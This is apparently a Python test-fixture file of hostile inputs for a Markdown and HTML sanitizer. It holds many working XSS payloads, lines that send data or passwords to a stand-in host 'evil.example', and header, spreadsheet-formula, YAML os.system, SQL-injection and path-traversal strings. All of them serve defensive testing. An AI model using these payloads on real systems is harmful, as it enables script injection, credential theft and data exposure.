"""What somebody with ill intent might type."""

RAW = r'''
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=data:,alert(1)>
<script>//
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)"/>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img src=javascript:alert(1)>
<img src=https://tracker.example/pixel.gif>
<img src=//tracker.example/pixel.gif>
<img srcset="https://tracker.example/x 1x">
<img src="/media/x.png" srcset="/media/x.png 480w, https://tracker.example/x.png 960w">
<img src="/media/x.png" sizes="99999px" width="99999">
<img/src="x"/onload=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src=javascript:alert(1)>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href=# onclick=alert(1)>x</a>
<a href="https://example.org" target=_blank style="position:fixed">x</a>
<body onload=alert(1)>
<div onmouseover=alert(1)>x</div>
<div style="background:url(javascript:alert(1))">x</div>
<div class="block admin">x</div>
<div id=main>x</div>
<p style="font-size:99em">x</p>
<style>*{display:none}</style>
<style>@import 'https://evil.example/x.css';</style>
<link rel=stylesheet href=https://evil.example/x.css>
<meta http-equiv=refresh content="0;url=https://evil.example">
<base href="https://evil.example/">
<form action=https://evil.example><input name=password></form>
<input autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<select><option>x</select>
<textarea>x</textarea>
<video src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<isindex action=javascript:alert(1)>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)</script>
<!--><script>alert(1)</script-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html><script>alert(1)</script>
<x onclick=alert(1)>x</x>
<font color=red>x</font>
</p><script>alert(1)</script>
</div></section></main><h1>Taken over</h1>
<a/href="javascript:alert(1)">x</a>
<frameset onload=alert(1)><frame src=x>
<table background=javascript:alert(1)><tr><td>x</table>
'''.strip().split("\n")

IN_MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](<javascript:alert(1)>)
[x](< javascript:alert(1)>)
[x](java&#115;cript:alert(1))
[x](javascript&colon;alert(1))
[x](&#x6A;avascript:alert(1))
[x](java%73cript:alert(1))
[x](\javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](data:image/png;base64,AAAA)
[x](vbscript:msgbox)
[x](file:///etc/passwd)
[x](//evil.example)
[x](/\evil.example)
[x](\\\\evil.example)
[x](https:evil.example)
[x](http://a"onmouseover="alert(1))
[x](/a" onclick="alert(1))
[x](/a "t" onclick=alert(1))
[x](/a '"><script>alert(1)</script>')
[x](/a (<b onclick=alert(1)>))
[<script>alert(1)</script>](/a)
[x]: javascript:alert(1)
[y][x]  [x]: javascript:alert(1)
<javascript:alert(1)>
<data:text/html,x>
<https://a"onclick=alert(1)>
<x@y" onclick=alert(1)>
![x](javascript:alert(1))
![x](https://tracker.example/pixel.gif)
![x](//tracker.example/pixel.gif)
![x](/\tracker.example/pixel.gif)
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x](illustration:../../admin/x)
![x](illustration:x" onerror="alert(1))
![x](/media/x.png" onerror="alert(1))
![x](/media/../accounts/export/)
![x](/media//evil.example/x.png)
![x](/media/pictures/0123456789abcdef0123456789abcdef-1600x1200.jpg" srcset="//evil.example/x.png 9w)
![x](/media/pictures/0123456789abcdef0123456789abcdef-1600x1200.jpg%20480w,//evil.example/x.png)
![x](/media/pictures/0123456789abcdef0123456789abcdef-1600x1200.jpg?480w,https://evil.example/x.png)
![decorative" onerror="alert(1)](/media/pictures/0123456789abcdef0123456789abcdef-1600x1200.png)
!["><script>alert(1)</script>](/media/x.png)
!["onerror="alert(1)](illustration:x '"onload="alert(1)')
[![x](/media/x.png)](javascript:alert(1))
`<script>alert(1)</script>`
``` <script>alert(1)</script>
```js" onclick="alert(1)
# <img src=x onerror=alert(1)> {#x}
## x {#x" onclick="alert(1)}
## x {#x .red style=color:red}
## <script>alert(1)</script> {#key}
## ![x](https://tracker.example/pixel.gif) {#key}
::: note" onclick="alert(1)
::: note <script>alert(1)</script>
::: emergency {.x style=y}
[@one" onclick="alert(1)]
[@<script>]
| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\<script>alert(1)\</script>
<ftp://example.org>
{: onclick="alert(1)"}
*x*{onclick=alert(1)}
[x](/a){target=_blank onclick=alert(1)}
mitral valve" onmouseover="alert(1)
&NewLine;javascript&colon;alert(1)
""".strip().split("\n")

# What no line of a list can hold, or no form expects: control characters, directions, separators, look-alikes.
ODD = [
    "a\x00b<script>alert(1)</script>", "\x01\x02\x03\x1f", "\x7f\x80\x9f", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07",
    "\x9b2J<img src=x onerror=alert(1)>", "a\x08\x08<b>",
    "one\r\nSet-Cookie: stolen=1\r\n\r\n<script>alert(1)</script>",
    "Dr Ada\r\nBcc: all@evil.example", "Dr Ada\nSubject: other", "Dr Ada\r\n\r\n<html><script>alert(1)</script>",
    "one\u2028two\u2029alert(1)", "\u202eevil\u202c", "\u2066\u202d<script>\u2069", "\u200b\u200c\u200d\ufeff\u2060",
    "java\u0000script:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)", "\ufeffjavascript:alert(1)", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02bascript\u02ba onclick=\u02baalert(1)", "\u2039script\u203aalert(1)", "\ufe64script\ufe65",
    "\U000e003cscript\U000e003e",
    "\u212aey \u017fcript \u0131\u0130", "<\u017fcript>alert(1)</\u017fcript>", "Z\u0351\u036b\u0343" + "\u0300" * 60,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 9, "\U0010ffff\ufffe\uffff", "\ud7ff\ue000\uf8ff", "\u0085<b>\u0085",
    "w" * 300, "<" * 90, "\"'`" * 30, "&" * 90, "\u0635\u0644\u0649 <b>", "%00%0d%0a<b>",
    "\\u003cscript\\u003ealert(1)",
]  # fmt: skip
# What would break out of where it is put: a page, a template, a mail, a file, another language's words.
BREAKING = r"""
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</script><script>alert(1)</script>
</style><img src=x onerror=alert(1)>
</option></select><img src=x onerror=alert(1)>
</option><option selected value="
</noscript><svg/onload=alert(1)>
</pre></code><details open ontoggle=alert(1)>
</blockquote></li></ul></div><iframe src=/accounts/>
</template><img src=x onerror=alert(1)>
--><img src=x onerror=alert(1)><!--
]]><svg onload=alert(1)>
" autofocus onfocus="alert(1)
' autofocus onfocus='alert(1)
` onmouseover=alert(1) `
"><base target=_blank href=//evil.example>
"/><meta http-equiv="refresh" content="0;url=javascript:alert(1)">
" formaction="javascript:alert(1)" x="
" srcdoc="<script>alert(1)</script>
" style="animation-name:x" onanimationstart="alert(1)
x" class="saved-00000000000000000000000000000000
{{ request.user.password }}
{{ 7|add:7 }}{% now "Y" %}
{% load static %}{% include "admin/login.html" %}
{% debug %}{# note #}
{{ settings.SECRET_KEY }}{{ form.media }}
${alert(1)}${{7*7}}
#{alert(1)} <%= alert(1) %>
%(actor)s %s %d %n {0.__class__} {}
__proto__
constructor[prototype]
<form id=documentElement name=body>
<img name=getElementById>
<a id=desk href=//evil.example>x</a><a id=desk name=bench href=x>y</a>
<input name=csrfmiddlewaretoken value=x>
## Cookie {#cookie}
## Forms {#forms}
## Desk {#desk}
## Keys {#__proto__}
## {#main}
## Main {#main} {#content}
[@one; @__proto__; @"><script>]
[@one](javascript:alert(1))
[^1]: <script>alert(1)</script>
- [x] <img src=x onerror=alert(1)>
- [ ] " onclick="alert(1)
::: check <svg/onload=alert(1)>
::: chance 1 out of 0
::: story\n![x](javascript:alert(1) "<b>")
![x](illustration:heart#" onload="alert(1))
![x](illustration:heart.svg?<script>)
![x](/static/js/check.js)
![<x>](/media/%2e%2e/%2e%2e/etc/passwd)
![x](/media/x.svg)
[x](jav&#x09;ascript:alert(1))
[x](&#0;javascript:alert(1))
[x](feed:javascript:alert(1))
[x](view-source:javascript:alert(1))
[x](blob:https://evil.example/1)
[x](livescript:x) [x](mocha:x) [x](jar:x)
[x](intent://x#Intent;end)
[x](/admin/logout/ "Click here")
[x](https://user:pass@evil.example\@ours.example/)
[x](http://[::1]/) [x](http://0x7f.1/)
<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></foreignObject></svg>
<math><maction actiontype="statusline#javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<s<!-- -->cript>alert(1)</s<!-- -->cript>
<img src="x` `<script>alert(1)</script>"` `>
<a href="&#x6a;&#x61;&#x76;&#x61;script&#x3a;alert(1)">x</a>
<portal src=javascript:alert(1)><fencedframe></fencedframe>
<link rel=prefetch href=//evil.example><link rel=import href=//evil.example>
<style>input[value^=a]{background:url(//evil.example/a)}</style>
<dialog open><form method=dialog><button autofocus onfocus=alert(1)></dialog>
<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>
<input type=image src=//evil.example/x><keygen autofocus onfocus=alert(1)>
<applet code=x><bgsound src=//evil.example><layer src=//evil.example>
=cmd|' /C calc'!A0
=HYPERLINK("https://evil.example","x")
@SUM(1+1)*cmd|' /C calc'!A0
---\ntitle: other\nstate: approved\n---
title: [unclosed
!!python/object/apply:os.system ["id"]
&a [*a, *a] <<: *a
key: |\n  <script>alert(1)</script>
{"__proto__": {"x": 1}}
",{"found":[],"x":"
../../../../etc/passwd
..\..\windows\win.ini
articles/../../x.md
CON.md
x.zip"; filename="evil.html
'; DROP TABLE education_variant; --
' OR 1=1 --
%' ESCAPE '\
%_%_\%
(a+)+$
""".strip().split("\n")  # noqa: S608  # nothing here is a query
BREAKING = [line.replace(r"\n", "\n") for line in BREAKING]
EVERY = [*RAW, *IN_MARKDOWN, *ODD, *BREAKING]

# 20 KB of each must be rendered in the time of a sigh.
SIZE = 20_000
HOSTILE = [
    "[", "]", "[[]", "![", "[a](", "[a](b", "(", "*", "**a ", "*a_ ", "_", "a**b", "`", "``` ", "`a", "~", "<", "<a ",
    "<!--", "<![CDATA[", "&", "&amp", "&#x", "\\", "\\[", "|", "|-", "a|b\n-|-\n", "| a ", "> ", ">\n", "- ", "- a\n",
    "1. ", "# ", "## a {#a}\n", "{#", "::: note\n", ":::\n", "::: story\n",
    "::: check\n- [x] a\n:::\n", "::: chance\n1 out of 100\n:::\n", ":", "[@a", "[@a; ", "[@a]", "[a]: b\n", "[a][",
    "\n",
    "\t", " ", "  \n", "a", "\x00", "\u2028", "é", "\U0001f600", "mitral ", "mitral valve ", "http://",
    "a@b.c ", "<a@b.c>",
    "!", "===\n", "a\n=\n", "---\n", "+++\n", '"', "'", "![a](/media/a.png)", "[a](<", '[a](b "', "-\n ", "* * ", "\r",
]  # fmt: skip
NESTED = {
    "lists in lists": "".join(f"{' ' * depth}- a\n" for depth in range(190)),
    "quotations in quotations": "".join(f"{'> ' * depth}a\n" for depth in range(140)),
    "brackets that close late": "[" * 9_999 + "a" + "](b)" * 2_500,
    "stars that close late": "*" * 9_999 + "a" + "*" * 9_999,
    "backticks of every length": "".join("`" * count for count in range(1, 199)),
    "blocks in blocks": "::: note\n" * 1_100 + "a\n" + ":::\n" * 2_500,
    "a wide table": "| " * 5_000 + "\n" + "|-" * 5_000 + "\n",
    "a long table": "|a" * 100 + "\n" + "|-" * 100 + "\n" + ("|" * 100 + "\n") * 195,
    "a far key": "a" + " " * 19_990 + "{#a}",
    "keys in keys": "## " + "{#a" * 6_600,
    "a long citation": "[@a" + ";@a" * 6_600,
}
